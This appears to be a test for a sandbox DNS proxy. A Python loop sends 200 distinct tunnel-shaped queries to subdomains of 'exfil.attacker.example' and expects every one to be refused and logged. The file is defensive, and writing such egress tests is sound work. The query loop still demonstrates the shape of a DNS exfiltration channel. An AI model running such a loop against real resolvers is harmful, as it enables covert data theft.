# what: a DNS tunnel's shape: 200 distinct data-carrying names in a loop, each refused and audited, none asked upstream
# include: dns
# expect-denied: c000-00000000.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c001-9e3779b1.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c002-3c6ef362.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c003-daa66d13.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c004-78dde6c4.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c005-17156075.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c006-b54cda26.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c007-538453d7.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c008-f1bbcd88.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c009-8ff34739.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c010-2e2ac0ea.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c011-cc623a9b.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c012-6a99b44c.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c013-08d12dfd.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c014-a708a7ae.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c015-4540215f.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c016-e3779b10.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c017-81af14c1.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c018-1fe68e72.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c019-be1e0823.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c020-5c5581d4.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c021-fa8cfb85.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c022-98c47536.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c023-36fbeee7.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c024-d5336898.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c025-736ae249.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c026-11a25bfa.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c027-afd9d5ab.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c028-4e114f5c.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c029-ec48c90d.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c030-8a8042be.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c031-28b7bc6f.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c032-c6ef3620.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c033-6526afd1.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c034-035e2982.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c035-a195a333.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c036-3fcd1ce4.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c037-de049695.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c038-7c3c1046.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c039-1a7389f7.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c040-b8ab03a8.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c041-56e27d59.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c042-f519f70a.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c043-935170bb.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c044-3188ea6c.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c045-cfc0641d.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c046-6df7ddce.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c047-0c2f577f.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c048-aa66d130.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c049-489e4ae1.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c050-e6d5c492.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c051-850d3e43.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c052-2344b7f4.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c053-c17c31a5.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c054-5fb3ab56.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c055-fdeb2507.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c056-9c229eb8.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c057-3a5a1869.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c058-d891921a.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c059-76c90bcb.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c060-1500857c.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c061-b337ff2d.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c062-516f78de.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c063-efa6f28f.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c064-8dde6c40.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c065-2c15e5f1.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c066-ca4d5fa2.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c067-6884d953.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c068-06bc5304.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c069-a4f3ccb5.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c070-432b4666.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c071-e162c017.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c072-7f9a39c8.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c073-1dd1b379.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c074-bc092d2a.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c075-5a40a6db.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c076-f878208c.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c077-96af9a3d.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c078-34e713ee.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c079-d31e8d9f.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c080-71560750.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c081-0f8d8101.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c082-adc4fab2.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c083-4bfc7463.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c084-ea33ee14.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c085-886b67c5.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c086-26a2e176.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c087-c4da5b27.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c088-6311d4d8.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c089-01494e89.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c090-9f80c83a.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c091-3db841eb.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c092-dbefbb9c.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c093-7a27354d.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c094-185eaefe.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c095-b69628af.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c096-54cda260.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c097-f3051c11.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c098-913c95c2.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c099-2f740f73.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c100-cdab8924.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c101-6be302d5.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c102-0a1a7c86.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c103-a851f637.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c104-46896fe8.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c105-e4c0e999.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c106-82f8634a.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c107-212fdcfb.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c108-bf6756ac.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c109-5d9ed05d.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c110-fbd64a0e.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c111-9a0dc3bf.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c112-38453d70.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c113-d67cb721.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c114-74b430d2.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c115-12ebaa83.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c116-b1232434.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c117-4f5a9de5.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c118-ed921796.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c119-8bc99147.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c120-2a010af8.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c121-c83884a9.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c122-666ffe5a.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c123-04a7780b.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c124-a2def1bc.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c125-41166b6d.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c126-df4de51e.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c127-7d855ecf.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c128-1bbcd880.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c129-b9f45231.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c130-582bcbe2.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c131-f6634593.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c132-949abf44.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c133-32d238f5.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c134-d109b2a6.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c135-6f412c57.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c136-0d78a608.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c137-abb01fb9.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c138-49e7996a.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c139-e81f131b.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c140-86568ccc.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c141-248e067d.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c142-c2c5802e.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c143-60fcf9df.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c144-ff347390.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c145-9d6bed41.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c146-3ba366f2.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c147-d9dae0a3.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c148-78125a54.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c149-1649d405.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c150-b4814db6.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c151-52b8c767.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c152-f0f04118.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c153-8f27bac9.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c154-2d5f347a.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c155-cb96ae2b.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c156-69ce27dc.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c157-0805a18d.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c158-a63d1b3e.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c159-447494ef.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c160-e2ac0ea0.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c161-80e38851.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c162-1f1b0202.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c163-bd527bb3.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c164-5b89f564.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c165-f9c16f15.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c166-97f8e8c6.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c167-36306277.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c168-d467dc28.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c169-729f55d9.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c170-10d6cf8a.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c171-af0e493b.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c172-4d45c2ec.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c173-eb7d3c9d.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c174-89b4b64e.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c175-27ec2fff.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c176-c623a9b0.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c177-645b2361.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c178-02929d12.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c179-a0ca16c3.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c180-3f019074.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c181-dd390a25.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c182-7b7083d6.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c183-19a7fd87.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c184-b7df7738.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c185-5616f0e9.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c186-f44e6a9a.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c187-9285e44b.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c188-30bd5dfc.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c189-cef4d7ad.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c190-6d2c515e.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c191-0b63cb0f.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c192-a99b44c0.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c193-47d2be71.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c194-e60a3822.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c195-8441b1d3.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c196-22792b84.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c197-c0b0a535.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c198-5ee81ee6.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: c199-fd1f9897.exfil.attacker.example 53 dns not_allowlisted
# expect-stdout: DONE 200 blocked
import os, random, socket, struct


# Bounded: 200 queries, one at a time, each waiting at most 5 s. Every name
# is distinct, so proxyd's dedupe keeps none back: 200 events, in any
# order, and dnsmasq's query log must not hold one of them.
import time

blocked = 0
t0 = time.monotonic()
for i in range(200):
    name = "c%03d-%08x.exfil.attacker.example" % (i, (i * 2654435761) & 0xffffffff)
    try:
        rcode, an = dns_query(name)
    except OSError as e:
        print("LEAK? no answer for", name, e)
        continue
    if rcode == 3 and an == 0:
        blocked += 1
    else:
        print("LEAK", name, "rcode", rcode, "answers", an)
print("took %.1f s" % (time.monotonic() - t0))
print("DONE", blocked, "blocked")
